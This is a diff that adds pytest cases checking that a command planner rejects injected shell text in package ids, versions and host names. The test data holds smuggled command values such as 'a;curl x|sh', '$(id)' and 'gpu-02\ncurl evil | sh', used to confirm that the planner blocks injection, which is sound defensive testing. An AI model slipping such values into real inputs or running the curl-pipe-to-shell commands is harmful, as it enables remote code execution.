@@ -143,6 +143,32 @@ def test_registry_text_cannot_start_a_command() -> None:
     assert plan_commands([]) == []
 
 
+@pytest.mark.parametrize(
+    ("node_id", "recommended", "line"),
+    [
+        ("a;curl x|sh", "1.2.0", "# a;curl x|sh@1.0.0: not a registry id; no command given"),
+        ("foo\ncurl x|sh", "1.2.0", "# foo curl x|sh@1.0.0: not a registry id; no command given"),
+        (
+            "foo",
+            "1.2.0 && curl x|sh",
+            "# foo@1.0.0 -> 1.2.0 && curl x|sh: not a registry version; no command given",
+        ),
+        ("foo", "$(id)", "# foo@1.0.0 -> $(id): not a registry version; no command given"),
+    ],
+    ids=["id-with-shell", "id-with-newline", "version-with-shell", "version-substitution"],
+)
+def test_commands_hold_only_validated_ids_and_versions(
+    node_id: str, recommended: str, line: str
+) -> None:
+    assert plan_commands([rec(node_id, "1.0.0", recommended)]) == [line]
+
+
+def test_a_host_name_cannot_inject_a_line() -> None:
+    lines = plan_commands([FOO, replace(FOO, host="gpu-02\ncurl evil | sh")])
+    assert lines[2] == "# host gpu-02 curl evil | sh"
+    assert not any(line.startswith("curl") for line in lines)
+
+
 # -- snapshot ------------------------------------------------------------------------------------
 
 ENTRIES = [
